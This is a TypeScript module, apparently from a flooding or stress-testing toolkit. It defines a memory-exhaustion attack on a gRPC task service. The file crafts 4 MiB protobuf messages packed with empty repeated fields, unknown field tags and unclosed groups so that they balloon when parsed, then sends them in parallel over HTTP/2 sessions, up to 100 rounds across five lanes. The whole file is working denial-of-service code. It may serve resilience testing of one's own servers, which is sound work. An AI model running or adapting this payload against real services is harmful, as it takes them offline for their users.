import { flood } from "../../kit.js";
import { envelope } from "../../raw/raw-http2.js";
import { grpcRequest, session } from "../../raw/sessions.js";
import type { Target } from "../../target.js";

const MESSAGE = 4 * 1024 * 1024 - 1_024;

/** Messages of 4 MiB that become far more in memory: millions of empty fields, labels and nested groups. */
export async function crowdedMessages(target: Target): Promise<void> {
  const repeat = (bytes: readonly number[]) =>
    Buffer.alloc(MESSAGE - (MESSAGE % bytes.length), Buffer.from(bytes));
  const crowds = {
    "TaskService/BatchCreateTasks": repeat([0x0a, 0]), // empty requests
    "TaskService/CreateTask": Buffer.concat([repeat([0x32, 0]), repeat([0xa2, 6, 0])]).subarray(0, MESSAGE), // empty labels
    "TaskService/ListTasks": repeat([0xf8, 7, 0]), // fields that nobody knows
    "RunService/StreamConnect": Buffer.concat([
      Buffer.from([0x0a, 0xfd, 0xff, 0xff, 1]),
      repeat([0xa2, 6, 0]),
    ]),
    "TemplateService/Validate": repeat([0x0b]), // groups that are never closed
  };
  await flood(target, { lanes: 5, most: 100 }, async (i) => {
    const http2 = session(target, i);
    for (const [path, bytes] of Object.entries(crowds)) {
      grpcRequest(http2, `/taskrun.v1.${path}`).end(envelope(bytes));
    }
    await new Promise((resolve) => setTimeout(resolve, 300));
    http2.destroy();
  });
}
